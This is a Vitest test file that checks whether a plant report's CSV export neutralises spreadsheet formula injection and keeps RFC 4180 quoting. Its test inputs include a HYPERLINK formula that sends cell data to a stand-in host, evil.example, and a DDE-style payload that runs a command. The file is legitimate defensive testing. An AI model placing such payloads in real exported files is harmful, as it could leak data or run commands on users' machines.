// The CSV's cells: RFC 4180 quoting, and text a spreadsheet would run as a formula kept as text.
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { reportCsv } from '../src/core/format-csv.js';
import type { PlantReport } from '../src/core/report-model.js';

function reportWith(rows: PlantReport['sections'][number]['rows']): PlantReport {
  return {
    title: 'Shift report',
    tenant: 'acme',
    plant: 'plant-1',
    line: '',
    period: { from: '2026-01-05T06:00:00.000Z', to: '2026-01-05T07:00:00.000Z', label: 'shift' },
    generatedAt: '2026-01-05T07:00:00.000Z',
    summary: {},
    sections: [
      {
        id: 'top_alarms',
        title: 'Top alarms',
        columns: [
          { key: 'name', title: 'Alarm', type: 'text' },
          { key: 'value', title: 'Value', type: 'number' },
        ],
        rows,
      },
    ],
  };
}

/** The value column of the section's lines, as a CSV reader gives it. */
function values(csv: string): string[] {
  const records = parse(csv, { columns: true }) as { section: string; value: string }[];
  return records.filter((r) => r.section === 'top_alarms').map((r) => r.value);
}

describe('reportCsv', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('writes the text cell %j with a leading quote, so a spreadsheet shows it as text', (name, shown) => {
    const csv = reportCsv(reportWith([{ name, value: 1 }]));
    expect(values(csv)).toEqual([shown, '1']);
    // As written: the cell's first character (after the quote RFC 4180 may add) is the ' a spreadsheet hides.
    expect(csv).toMatch(/\r\ntop_alarms,1,name,"?'/);
  });

  it('keeps negative numbers as numbers, and ordinary text as it is', () => {
    const csv = reportCsv(reportWith([{ name: 'temp_high', value: -3.5 }]));
    expect(values(csv)).toEqual(['temp_high', '-3.5']);
    expect(csv).toContain('top_alarms,1,value,-3.5\r\n');
    expect(csv).toContain('top_alarms,1,name,temp_high\r\n');
  });

  it('still quotes commas, quotes and line breaks (RFC 4180)', () => {
    const csv = reportCsv(reportWith([{ name: 'a,"b"\nc', value: null }]));
    expect(csv).toContain('top_alarms,1,name,"a,""b""\nc"\r\n');
    expect(csv).toContain('top_alarms,1,value,\r\n');
  });
});
